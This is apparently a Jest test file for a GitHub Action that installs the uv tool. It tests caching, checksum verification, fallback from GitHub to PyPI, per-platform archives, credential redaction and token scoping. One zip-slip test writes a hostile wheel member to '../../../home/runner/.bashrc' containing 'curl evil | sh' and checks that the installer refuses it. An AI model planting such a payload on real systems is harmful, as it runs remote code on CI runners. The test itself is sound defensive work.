/**
 * uv installation in-process, against the loopback index (the real uv wheel) and the loopback GitHub
 * release fake: tool cache → download → verify → extract → cache, and which failures move on to the
 * next source.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import type { RetryPolicy } from '../../../src/adapters/http.js';
import { githubReleasesApi } from '../../../src/adapters/install/github-release.js';
import { ChecksumMismatchError, findCachedUv, installUv, type UvInstallOptions } from '../../../src/adapters/install/index.js';
import { SimpleApiIndex } from '../../../src/adapters/package-index.js';
import type { RunnerPlatform } from '../../../src/core/setup/platform.js';
import { writeTarGz, writeZip } from '../../support/archives.js';
import { FakeGitHubReleases } from '../../support/fake-github-releases.js';
import { cleanupTempDirs, makeTempDir } from '../../support/fixture-project.js';
import { LocalIndex } from '../../support/local-index.js';
import { sha256File, UV_TEST_VERSION, uvWheelPath } from '../../support/uv-binary.js';
import { knownUvVersions, knownUvWheelDigest, parseChecksumInput } from '../../../src/core/setup/known-checksums.js';
import { wheelBytes } from '../../support/wheels.js';

const FAST: RetryPolicy = { attempts: 2, backoffMs: 1, timeoutMs: 2000, stallMs: 2000 };
const PLATFORM: RunnerPlatform = { os: 'linux', arch: process.arch === 'arm64' ? 'arm64' : 'x64', libc: 'glibc' };
const exact = { kind: 'exact', version: UV_TEST_VERSION, origin: 'input' } as const;
/** Stand-in wheels are served as a release lockstep's table of known digests does not list (it would reject their bytes). */
const UNLISTED = '0.99.0';
const unlisted = { kind: 'exact', version: UNLISTED, origin: 'input' } as const;

let htmlIndex: LocalIndex;
let github: FakeGitHubReleases;
let toolCache: string;
const saved = { cache: process.env.RUNNER_TOOL_CACHE, temp: process.env.RUNNER_TEMP };

beforeAll(async () => {
  // An HTML-only index: the install path must work with plain PEP 503 mirrors too.
  htmlIndex = await LocalIndex.start({ json: false });
  htmlIndex.addFile(uvWheelPath());
  github = await FakeGitHubReleases.start();
});

beforeEach(() => {
  toolCache = makeTempDir('toolcache');
  process.env.RUNNER_TOOL_CACHE = toolCache;
  process.env.RUNNER_TEMP = makeTempDir('runner-temp');
  htmlIndex.reset();
  github.reset();
});

afterEach(() => {
  process.env.RUNNER_TOOL_CACHE = saved.cache;
  process.env.RUNNER_TEMP = saved.temp;
});

afterAll(async () => {
  await htmlIndex?.close();
  await github?.close();
  cleanupTempDirs();
});

function options(source: UvInstallOptions['source'], githubUrl = github.url): UvInstallOptions {
  return { source, index: new SimpleApiIndex(htmlIndex.url, FAST), githubUrl, githubApiUrl: `${githubUrl}/api/v3`, githubToken: '', platform: PLATFORM, policy: FAST, log: () => {} };
}

describe('installUv', () => {
  it('installs the PyPI wheel into the tool cache, runnable, then finds it there', async () => {
    const first = await installUv(exact, options('pypi'));
    expect(first.from).toBe('pypi');
    expect(first.binary).toBe(path.join(toolCache, 'uv', UV_TEST_VERSION, PLATFORM.arch, 'uv'));
    expect(execFileSync(first.binary, ['--version'], { encoding: 'utf8' })).toContain(`uv ${UV_TEST_VERSION}`);
    expect(existsSync(path.join(first.dir, 'uvx'))).toBe(true);

    const second = await installUv(exact, options('pypi'));
    expect(second).toMatchObject({ from: 'tool-cache', binary: first.binary });
    expect(htmlIndex.downloads('uv')).toBe(1);
  });

  it('rejects a wheel whose bytes do not match the index sha256 and caches nothing', async () => {
    htmlIndex.failNext('/files/uv-', 'corrupt-hash');
    await expect(installUv(exact, options('pypi'))).rejects.toThrow(ChecksumMismatchError);
    expect(existsSync(path.join(toolCache, 'uv'))).toBe(false);
    // The working files are gone too.
    expect(readdirSync(process.env.RUNNER_TEMP!)).toEqual([]);
  });

  it('installs from the GitHub release archive', async () => {
    const installed = await installUv(exact, options('github'));
    expect(installed.from).toBe('github');
    expect(github.downloads(UV_TEST_VERSION)).toBe(1);
    expect(execFileSync(installed.binary, ['--version'], { encoding: 'utf8' })).toContain(UV_TEST_VERSION);
  });

  it('auto: a corrupt GitHub archive fails without trying PyPI', async () => {
    github.failNext(/\.tar\.gz$/, 'corrupt');
    await expect(installUv(exact, options('auto'))).rejects.toThrow(/checksum mismatch/);
    expect(htmlIndex.downloads('uv')).toBe(0);
    expect(existsSync(path.join(toolCache, 'uv'))).toBe(false);
  });

  it('auto: GitHub answering 5xx on every attempt counts as unreachable, so PyPI is used', async () => {
    github.failNext('.sha256', 502, FAST.attempts);
    const installed = await installUv(exact, options('auto'));
    expect(installed.from).toBe('pypi');
  });

  it('auto: a release GitHub does not have is an error, not a reason to switch sources', async () => {
    await expect(installUv({ kind: 'exact', version: '0.0.1', origin: 'input' }, options('auto'))).rejects.toThrow(/has no GitHub release/);
    expect(htmlIndex.requests.length).toBe(0);
  });

  it('says which sources it tried when none can be reached', async () => {
    const closed = await LocalIndex.start();
    const deadUrl = closed.url;
    await closed.close();
    const opts = { ...options('auto', 'http://127.0.0.1:9'), index: new SimpleApiIndex(deadUrl, FAST) };
    await expect(installUv(exact, opts)).rejects.toThrow(/could not download uv 0\.13\.9: github: .*; pypi: /);
  });
});

/**
 * Platforms this machine is not: the installs below never run the binary, so small stand-in
 * executables packed the way uv packs each platform's release archive and wheel are enough.
 */
describe('installUv for other runners', () => {
  const WINDOWS: RunnerPlatform = { os: 'win32', arch: 'arm64' };
  const MAC: RunnerPlatform = { os: 'darwin', arch: 'x64' };
  const ALPINE: RunnerPlatform = { os: 'linux', arch: 'x64', libc: 'musl' };
  let wheels: LocalIndex;

  beforeAll(async () => {
    wheels = await LocalIndex.start();
  });
  afterAll(async () => {
    await wheels?.close();
  });

  const on = (platform: RunnerPlatform, source: UvInstallOptions['source'], index = wheels): UvInstallOptions => ({
    ...options(source),
    index: new SimpleApiIndex(index.url, FAST),
    platform,
  });
  const isExecutable = (file: string) => (statSync(file).mode & 0o111) !== 0;

  it('windows: the release .zip holds uv.exe at its root (no folder), and lands in the tool cache', async () => {
    github.publishAsset(UV_TEST_VERSION, 'uv-aarch64-pc-windows-msvc.zip', writeZip([
      { path: 'uv.exe', data: 'MZ uv' },
      { path: 'uvx.exe', data: 'MZ uvx' },
      { path: 'uvw.exe', data: 'MZ uvw' },
    ]));
    const installed = await installUv(exact, on(WINDOWS, 'github'));
    expect(installed.binary).toBe(path.join(toolCache, 'uv', UV_TEST_VERSION, 'arm64', 'uv.exe'));
    expect(readFileSync(installed.binary, 'utf8')).toBe('MZ uv');
    expect(readdirSync(installed.dir).sort()).toEqual(['uv.exe', 'uvw.exe', 'uvx.exe']);
  });

  it('macos: the release .tar.gz holds uv-<triple>/uv', async () => {
    github.publishAsset(UV_TEST_VERSION, 'uv-x86_64-apple-darwin.tar.gz', writeTarGz([
      { path: 'uv-x86_64-apple-darwin/uv', data: '#!/bin/sh\necho uv\n', mode: 0o755 },
      { path: 'uv-x86_64-apple-darwin/uvx', data: '#!/bin/sh\necho uvx\n', mode: 0o755 },
    ]));
    const installed = await installUv(exact, on(MAC, 'github'));
    expect(installed.binary).toBe(path.join(toolCache, 'uv', UV_TEST_VERSION, 'x64', 'uv'));
    expect(readFileSync(installed.binary, 'utf8')).toContain('echo uv');
    expect(isExecutable(installed.binary)).toBe(true);
  });

  it('windows: the wheel\'s uv-<v>.data/scripts/uv.exe is the binary, found on an index that also has the other platforms', async () => {
    const scripts = (...names: string[]) => Object.fromEntries(names.map((n) => [`uv-${UNLISTED}.data/scripts/${n}`, `${n} for ${n}`]));
    for (const tag of ['win_amd64', 'win_arm64', 'macosx_11_0_arm64']) {
      const exe = tag.startsWith('win') ? '.exe' : '';
      wheels.addWheel({ name: 'uv', version: UNLISTED, tag: `py3-none-${tag}`, files: { ...scripts(`uv${exe}`, `uvx${exe}`), 'uv/__init__.py': tag } });
    }
    const installed = await installUv(unlisted, on(WINDOWS, 'pypi'));
    expect(installed.from).toBe('pypi');
    expect(readdirSync(installed.dir).sort()).toEqual(['uv.exe', 'uvx.exe']);
    expect(wheels.downloads(`uv-${UNLISTED}-py3-none-win_arm64.whl`)).toBe(1);
  });

  it('macos: a wheel stored without the executable bit still installs a runnable uv', async () => {
    const scripts = { [`uv-${UNLISTED}.data/scripts/uv`]: '#!/bin/sh\n', [`uv-${UNLISTED}.data/scripts/uvx`]: '#!/bin/sh\n' };
    wheels.addWheel({ name: 'uv', version: UNLISTED, tag: 'py3-none-macosx_10_12_x86_64', files: scripts }); // zip entries 0644
    const installed = await installUv(unlisted, on(MAC, 'pypi'));
    expect(isExecutable(installed.binary)).toBe(true);
    expect(isExecutable(path.join(installed.dir, 'uvx'))).toBe(true);
  });

  it('alpine: a musl uv is cached apart from the glibc one, so neither is handed to the other libc', async () => {
    wheels.addFile(readFileSync(uvWheelPath()), { filename: path.basename(uvWheelPath()).replace(`uv-${UV_TEST_VERSION}-`, `uv-${UNLISTED}-`) });
    const glibc = await installUv(unlisted, on(PLATFORM, 'pypi'));
    expect(findCachedUv(UNLISTED, { ...PLATFORM, libc: 'musl' })).toBeUndefined();
    wheels.addWheel({
      name: 'uv',
      version: UNLISTED,
      tag: 'py3-none-musllinux_1_1_x86_64',
      files: { [`uv-${UNLISTED}.data/scripts/uv`]: 'musl uv', [`uv-${UNLISTED}.data/scripts/uvx`]: 'musl uvx' },
    });
    const musl = await installUv(unlisted, on(ALPINE, 'pypi'));
    expect(musl.from).toBe('pypi');
    expect(musl.dir).toBe(path.join(toolCache, 'uv', UNLISTED, 'x64-musl'));
    expect(readFileSync(musl.binary, 'utf8')).toBe('musl uv');
    expect(findCachedUv(UNLISTED, PLATFORM)?.binary).toBe(glibc.binary);
  });
});

describe('installUv from a private index (issue 13)', () => {
  it('downloads with the index-url credentials and never logs them', async () => {
    const secured = await LocalIndex.start({ auth: { username: 'bot', password: 'S3cretIdx' } });
    try {
      secured.addFile(uvWheelPath());
      const logged: string[] = [];
      const index = new SimpleApiIndex(secured.url.replace('http://', 'http://bot:S3cretIdx@'), FAST);
      const installed = await installUv(exact, { ...options('pypi'), index, log: (m) => logged.push(m) });
      expect(installed.from).toBe('pypi');
      expect(secured.requests.filter((r) => r.status === 401)).toEqual([]);
      expect(logged.some((m) => m.startsWith('Downloading http://***@127.0.0.1'))).toBe(true);
      expect(logged.join('\n')).not.toContain('S3cretIdx');
    } finally {
      await secured.close();
    }
  });
});

describe('installUv with a zip-slip uv wheel (issue 13)', () => {
  it('refuses it, saying which member would land outside (not that unzip is missing), and caches nothing', async () => {
    const evil = await LocalIndex.start({ json: false });
    try {
      const filename = path.basename(uvWheelPath()).replace(`uv-${UV_TEST_VERSION}-`, `uv-${UNLISTED}-`);
      evil.addFile(writeZip([{ path: `uv-${UNLISTED}.data/scripts/uv`, data: 'x', mode: 0o755 }, { path: '../../../home/runner/.bashrc', data: 'curl evil | sh' }]), { filename });
      const failure = installUv(unlisted, { ...options('pypi'), index: new SimpleApiIndex(evil.url, FAST) });
      await expect(failure).rejects.toThrow(/refusing to unpack the uv wheel: 1 member\(s\) would be written outside its folder \(\.\.\/\.\.\/\.\.\/home\/runner\/\.bashrc\)/);
      await expect(failure).rejects.not.toThrow(/unzip/);
    } finally {
      await evil.close();
    }
    expect(existsSync(path.join(toolCache, 'uv'))).toBe(false);
  });
});

describe('installUv in a container without unzip', () => {
  it('says to install unzip or use the GitHub archive, and caches nothing', async () => {
    const savedPath = process.env.PATH;
    process.env.PATH = makeTempDir('empty-path'); // like python:3.12-slim: no unzip
    try {
      const failure = installUv(exact, options('pypi'));
      await expect(failure).rejects.toThrow(/the `unzip` program is not on PATH/);
      await expect(failure).rejects.toMatchObject({ hint: expect.stringContaining('uv-source: github') });
    } finally {
      process.env.PATH = savedPath;
    }
    expect(existsSync(path.join(toolCache, 'uv'))).toBe(false);
  });
});

describe('uv releases from the GitHub API', () => {
  it('reads every page: a required-version that only the oldest releases satisfy still resolves', async () => {
    const many = await FakeGitHubReleases.start({
      // 333 releases, newest first, as GitHub lists them (uv had 333 by 0.13.9).
      versions: Array.from({ length: 333 }, (_, i) => `0.${Math.floor((332 - i) / 10)}.${(332 - i) % 10}`),
    });
    try {
      const opts = { ...options('github', many.url), githubApiUrl: many.apiUrl };
      const installed = await installUv({ kind: 'specifier', specifier: '<0.0.5', origin: 'pyproject.toml' }, opts);
      expect(installed.version).toBe('0.0.4');
      expect(many.requests.filter((r) => r.path.endsWith('/releases')).length).toBe(4);
      expect(htmlIndex.requests.length).toBe(0);
    } finally {
      await many.close();
    }
  });

  it('sends the workflow token only to the API that issued it', () => {
    const dotcom = { GITHUB_SERVER_URL: 'https://github.com', GITHUB_API_URL: 'https://api.github.com' };
    const ghes = { GITHUB_SERVER_URL: 'https://ghes.example.com', GITHUB_API_URL: 'https://ghes.example.com/api/v3' };
    expect(githubReleasesApi('https://github.com', dotcom)).toEqual({ url: 'https://api.github.com', sendToken: true });
    expect(githubReleasesApi('https://github.com/', {})).toEqual({ url: 'https://api.github.com', sendToken: true });
    // A mirror of the downloads is not GitHub: it never sees the token.
    expect(githubReleasesApi('https://mirror.example.com/gh', dotcom)).toEqual({ url: 'https://mirror.example.com/gh/api/v3', sendToken: false });
    // On GHES, uv's releases are still on github.com; the GHES token is not github.com's.
    expect(githubReleasesApi('https://github.com', ghes)).toEqual({ url: 'https://api.github.com', sendToken: false });
    // ...unless the GHES instance itself mirrors astral-sh/uv.
    expect(githubReleasesApi('https://ghes.example.com', ghes)).toEqual({ url: 'https://ghes.example.com/api/v3', sendToken: true });
  });
});

describe('known uv digests and the checksum input', () => {
  it("the table holds PyPI's own digest of the uv wheel the tests use", () => {
    expect(knownUvWheelDigest(path.basename(uvWheelPath()))).toBe(sha256File(uvWheelPath()));
    expect(knownUvVersions()).toContain(UV_TEST_VERSION);
  });

  it('a mirror serving other bytes under a known uv release fails, even though it publishes their hash', async () => {
    const mirror = await LocalIndex.start();
    try {
      // uv 0.13.1 is in the table; these bytes are 0.13.9's, and the mirror's sha256 matches them.
      mirror.addFile(readFileSync(uvWheelPath()), { filename: path.basename(uvWheelPath()).replace(`uv-${UV_TEST_VERSION}-`, 'uv-0.13.1-') });
      const error = await installUv({ kind: 'exact', version: '0.13.1', origin: 'input' }, { ...options('pypi'), index: new SimpleApiIndex(mirror.url, FAST) }).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(ChecksumMismatchError);
      expect((error as Error).message).toContain(knownUvWheelDigest(path.basename(uvWheelPath()).replace(`uv-${UV_TEST_VERSION}-`, 'uv-0.13.1-'))!);
      expect((error as ChecksumMismatchError).hint).toContain("lockstep's table of known uv digests");
      expect(existsSync(path.join(toolCache, 'uv'))).toBe(false);
    } finally {
      await mirror.close();
    }
  });

  it('checksum input: the download must match it (wheel and GitHub archive alike)', async () => {
    const wrong = 'ab'.repeat(32);
    await expect(installUv(exact, { ...options('pypi'), checksum: wrong })).rejects.toThrow(/checksum mismatch.*expected sha256 abab/);
    await expect(installUv(exact, { ...options('github'), checksum: wrong })).rejects.toThrow(ChecksumMismatchError);
    expect(existsSync(path.join(toolCache, 'uv'))).toBe(false);
    const installed = await installUv(exact, { ...options('pypi'), checksum: sha256File(uvWheelPath()) });
    expect(installed.from).toBe('pypi');
  });

  it('parses the checksum input', () => {
    expect(parseChecksumInput('')).toBe('');
    expect(parseChecksumInput(`sha256:${'AB'.repeat(32)}`)).toBe('ab'.repeat(32));
    expect(parseChecksumInput('abc')).toBeNull();
  });
});
